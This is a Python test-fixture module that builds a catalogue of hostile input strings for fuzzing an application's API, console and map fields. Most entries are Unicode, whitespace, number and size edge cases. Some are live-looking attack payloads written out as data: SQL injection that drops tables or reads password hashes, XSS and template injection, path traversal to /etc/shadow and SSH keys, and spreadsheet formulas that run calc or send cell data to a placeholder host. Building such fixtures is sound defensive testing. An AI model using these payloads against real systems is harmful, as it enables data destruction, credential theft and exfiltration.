"""A catalogue of hostile strings, by category, for the API, console and map tests.

Each :class:`Hostile` carries its ``category`` and its ``text``.  The catalogue
is built, not downloaded: SQL injection, HTML/JS and template payloads (each
setting ``window.__pwned`` if it ever runs), every C0/C1 control character,
bidirectional overrides and right-to-left scripts, zero-width and combining
marks, emoji (ZWJ sequences, flags, skin tones), astral-plane code points,
lone surrogates, whitespace-only text, format strings, path traversal, CSV
formula injection, JSON-breaking quotes, NFC/NFD pairs, numbers and the words
``null``/``undefined``/``NaN``, and huge strings (10 k, 100 k, 1 M chars).

Huge strings are kept apart (:data:`HUGE`): tests size them to each field's
maximum (at the maximum: accepted; one over: 422 naming the field).
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

#: What every JS payload sets if the page ever executes it.
PWNED = "window.__pwned=1"


@dataclass(frozen=True)
class Hostile:
    category: str
    text: str

    def __repr__(self) -> str:  # short ids in pytest output
        return f"{self.category}:{self.text[:20]!r}{'…' if len(self.text) > 20 else ''}"


def _sql() -> list[str]:
    base = ["' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE cases; --", "\"; DROP TABLE journal; --",
            "1; DELETE FROM patients", "' UNION SELECT username, password_hash FROM users --",
            "admin'--", "' OR ''='", "1' AND SLEEP(5)#", "'; SELECT pg_sleep(5); --",
            "1)) OR ((1=1", "'||(SELECT version())||'", "%' AND 1=0 UNION SELECT NULL --",
            "'; UPDATE journal SET payload='{}'; --", "Robert'); DROP TABLE students;--",
            "\\'; DROP TABLE cases; --", "' OR 'x'='x' /*", "*/ OR 1=1 /*", "'; EXEC xp_cmdshell('dir'); --",
            "$$; DROP TABLE cases; $$", "'; COPY cases TO '/tmp/x'; --", "' AND extractvalue(1,concat(0x7e,version()))--",
            "1 OR 1=1", "'\"`;", "ORDER BY 1--", "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
            "' || randomblob(1000000000) || '", "Ĺ' OR 1=1 --", "%27%20OR%201%3D1", "O'Brien", "D'Artagnan",
            "L'Haÿ-les-Roses", "''''''''''", "?", "?; --", ":name", "%(name)s", "$1", "@@version", "; ; ;"]
    return base


def _html_js() -> list[str]:
    p = PWNED
    return [
        f"<script>{p}</script>", f"</script><script>{p}</script>", f"<img src=x onerror={p}>",
        f"<img src=x onerror=\"{p}\">", f"<svg onload={p}>", f"<svg><script>{p}</script></svg>",
        f"<body onload={p}>", f"<iframe src=\"javascript:{p}\"></iframe>", f"<a href=\"javascript:{p}\">x</a>",
        f"javascript:{p}", f"JaVaScRiPt:{p}", f"java\tscript:{p}", f"data:text/html,<script>{p}</script>",
        f"<div onmouseover=\"{p}\">survol</div>", f"<input autofocus onfocus={p}>", f"<details open ontoggle={p}>",
        f"<marquee onstart={p}>", f"<video><source onerror={p}></video>", f"<audio src=x onerror={p}>",
        f"\"><script>{p}</script>", f"'><img src=x onerror={p}>", f"\" onmouseover=\"{p}", f"' onclick='{p}",
        f"<scr<script>ipt>{p}</script>", f"<SCRIPT SRC=//x.invalid/x.js></SCRIPT>", "<b>gras</b> <i>italique</i>",
        "<!--", "-->", "<![CDATA[x]]>", "&lt;script&gt;", "&amp;&quot;&#39;", "&#x3C;script&#x3E;", "<", ">", "&",
        f"<style>@import 'javascript:{p}';</style>", f"<object data=\"javascript:{p}\">",
        f"<embed src=\"javascript:{p}\">", f"<form><button formaction=javascript:{p}>x</button></form>",
        f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={p}>",
        f"<noscript><p title=\"</noscript><img src=x onerror={p}>\">", f"<template><script>{p}</script></template>",
        f"<base href=\"javascript:{p}//\">", f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{p}\">",
        f"</textarea><script>{p}</script>", f"</title><script>{p}</script>", f"\\u003cscript\\u003e{p}",
        f"`;{p};`", f"';{p};'", f"\";{p};\"", f"</div></div><img src=x onerror={p}>",
        f"<img src=x:alert(1) onerror=eval('{p}')>", f"\u003cimg src=x onerror={p}\u003e",
    ]


def _templates() -> list[str]:
    return ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('" + PWNED + "')()}}",
            "${" + PWNED + "}", "{% raw %}", "{{ config }}", "[[${7*7}]]", "@{7*7}", "{{{html}}}", "${{7*7}}",
            "{{#each x}}", "*{7*7}", "<#assign x=7>"]


def _controls() -> list[str]:
    out = [f"avant{chr(c)}après" for c in range(0x00, 0x20)]
    out.append("avant\x7faprès")
    out += [f"avant{chr(c)}après" for c in range(0x80, 0xA0)]
    out += ["\x00", "\x00\x00\x00", "ligne1\r\nligne2", "\n\n\n", "tab\there", "\x1b[31mrouge\x1b[0m", "\x08\x08\x08",
            "\u2028séparateur de ligne", "\u2029séparateur de paragraphe", "\ufeffBOM en tête", "fin\ufeff",
            "\ufffe", "\uffff", "\ufffd remplacement"]
    return out


def _bidi() -> list[str]:
    return ["\u202eetêt'l à leinaD", "Dupont \u202e1234 elif\u202c", "\u2066isolé\u2069", "\u2067RTL isolé\u2069",
            "\u2068premier fort\u2069", "\u2066\u2066\u2066 non fermé", "\u202a\u202b\u202c\u202d\u202e",
            "\u200e marque LTR", "\u200f marque RTL", "\u061c marque arabe", "محمد بن عبد الله", "שלום עולם",
            "مرحبا Dupont 12", "Jean-Pierre \u05e9\u05dc\u05d5\u05dd 3", "rue \u202e01 elif\u202c.exe",
            "‏‏‏", "العربية‎", "עברית\u202c", "\u202e" * 50, "ۃ٣٤٥ أرقام عربية"]


def _zero_width() -> list[str]:
    return ["\u200b", "Du\u200bpont", "\u200c\u200d", "Du\u200dpont", "\u2060joint", "\u180e", "\ufeff",
            "a\u200b\u200b\u200b", "\u200b" * 100, "\u2061\u2062\u2063\u2064", "\u034f", "\u115f\u1160",
            "\u3164", "\uffa0", "Martin\u00ad"]


def _combining() -> list[str]:
    zalgo = "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d"
    return [zalgo * 5, "e" + "\u0301" * 50, "\u0301", "a\u0300\u0301\u0302\u0303\u0304", "̴̡̛̖͇̭̦̮͍͕̮̪̗̲̗̳̘̯̪̙̪͎̖̟̖͈͚",
            "Ť̴̢̛̗̙̤̰̺̩̝̗̖̫̂͌̃̎̒̏̽̾̍͛̓̏̕h̵", "ก้้้้้้้้้้้้้้้้้้้้", "\u0e01\u0e34\u0e34\u0e34",
            "x" + "\u20dd", "1\ufe0f\u20e3", "\u0489" * 10, "Ꙭ҈"]


def _emoji() -> list[str]:
    return ["😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🏴‍☠️", "🇫🇷", "🇫🇷🇩🇪🇪🇺", "👍🏽", "🧑🏿‍⚕️", "❤️", "♥", "🤷‍♀️",
            "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "👨‍👩‍👧", "🫠", "🩺🚑💊", "Dr 🐍 Python", "😀" * 200, "🇦", "\U0001f1eb", "👁️‍🗨️",
            "🧑‍🤝‍🧑", "🔥💯", "0️⃣1️⃣2️⃣", "☎️ rappeler", "©®™"]


def _astral() -> list[str]:
    return ["\U00010000", "\U0001d400\U0001d401", "\U0001f600", "\U0010fffd", "\U000e0001", "\U0002a6d6",
            "𝕳𝖊𝖑𝖑𝖔", "𐍈 gotique", "𓀀 hiéroglyphe", "\U00020000\U00020001", "𝟘𝟙𝟚", "\U000f0000",
            "\U0001f9ea" * 30, "a\U0010ffff", "\U0001d11e clé de sol"]


def _surrogates() -> list[str]:
    """Lone surrogates: not valid Unicode text (a JSON ``"\\ud800"`` decodes to one)."""
    return ["\ud800", "\udfff", "a\ud83db", "\udc00\ud800", "fin\ud83d"]


def _whitespace() -> list[str]:
    return [" ", "   ", "\t", "\n", "\r\n", " \t\n ", "\u00a0", "\u2003", "\u3000", "\u2009\u200a",
            "\u1680", "\u205f", "\u0085", "\u000b\u000c", "  texte entouré  "]


def _format() -> list[str]:
    return ["%s", "%s%s%s%s%s", "%n", "%x%x%x", "%d", "%(secret)s", "{0}", "{0!r}", "{}", "{password}",
            "{0.__class__.__mro__}", "%1$s", "%.1000000f", "%%", "%-99999999s", "{:>9999}", "%c%c%c"]


def _paths() -> list[str]:
    return ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "C:\\Windows\\System32",
            "file:///etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "/dev/null",
            "\\\\serveur\\partage", "~/.ssh/id_rsa", "..%00/", "CON", "NUL.txt", "/proc/self/environ"]


def _csv() -> list[str]:
    return ["=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://x.invalid\",\"x\")",
            "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://x.invalid/?\",A1),\"//a\")", "a,b,c", "\"a\",\"b\"",
            "a;b;c", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "ligne\nsuivante,=1+1"]


def _json() -> list[str]:
    return ["\"", "\\", "\\\"", "\"\"\"", "'", "\\u0000", "\\n", "{\"a\":1}", "[1,2,3]", "}]}", "{", "\\\\\\",
            "\"}, \"role\": \"ADMIN", "\\ud800", "</", "\"\\\"\\\\\"", "`", "${", "',\"", "\\x00"]


def _normalisation() -> list[str]:
    words = ["é", "Hélène", "Noël", "Ångström", "ﬁ ligature", "Ⅻ", "ｆｕｌｌｗｉｄｔｈ", "ǅ", "Å", "ñ", "한국어", "ä"]
    out: list[str] = []
    for w in words:
        out.append(unicodedata.normalize("NFC", w))
        out.append(unicodedata.normalize("NFD", w))
    out += [unicodedata.normalize("NFKC", "ﬁ Ⅻ ｆ"), "İstanbul", "ß→SS", "ǰ", "ΐ"]
    return out


def _numbers() -> list[str]:
    return ["0", "-0", "1e308", "1e309", "-1", "9999999999999999999999", "0x41", "1.0", "1,5", "NaN", "Infinity",
            "-Infinity", "0.1+0.2", "00000", "+33612345678", "٣", "²", "½"]


def _null_words() -> list[str]:
    return ["null", "NULL", "None", "undefined", "nil", "true", "false", "[object Object]", "NaN", "#N/A",
            "(null)", "void 0", "__proto__", "constructor", "toString", "hasOwnProperty"]


_BUILDERS = {
    "sql": _sql, "html_js": _html_js, "template": _templates, "control": _controls, "bidi": _bidi,
    "zero_width": _zero_width, "combining": _combining, "emoji": _emoji, "astral": _astral,
    "surrogate": _surrogates, "whitespace": _whitespace, "format": _format, "path": _paths, "csv": _csv,
    "json": _json, "normalisation": _normalisation, "number": _numbers, "null_word": _null_words,
}

#: Sizes of the huge strings (characters).
HUGE_SIZES = (10_000, 100_000, 1_000_000)


def _huge() -> list[Hostile]:
    out = []
    for n in HUGE_SIZES:
        out += [Hostile("huge", "a" * n), Hostile("huge", ("é😀<" * n)[:n])]
    return out


def _build() -> list[Hostile]:
    seen: set[str] = set()
    out: list[Hostile] = []
    for category, build in _BUILDERS.items():
        for text in build():
            if text not in seen:
                seen.add(text)
                out.append(Hostile(category, text))
    return out


#: Every short hostile string (≤ a few thousand characters), in a stable order.
SHORT: list[Hostile] = _build()
#: The huge ones (10 k, 100 k, 1 M characters).
HUGE: list[Hostile] = _huge()
#: Everything.
CATALOGUE: list[Hostile] = SHORT + HUGE
CATEGORIES = frozenset(h.category for h in CATALOGUE)


def has_lone_surrogate(text: str) -> bool:
    return any(0xD800 <= ord(c) <= 0xDFFF for c in text)


def sample(n: int) -> list[Hostile]:
    """``n`` short strings taken round-robin over every category (stable, no randomness)."""
    by_cat: dict[str, list[Hostile]] = {}
    for h in SHORT:
        by_cat.setdefault(h.category, []).append(h)
    out: list[Hostile] = []
    i = 0
    while len(out) < min(n, len(SHORT)):
        out += [items[i] for items in by_cat.values() if i < len(items)][: n - len(out)]
        i += 1
    return out
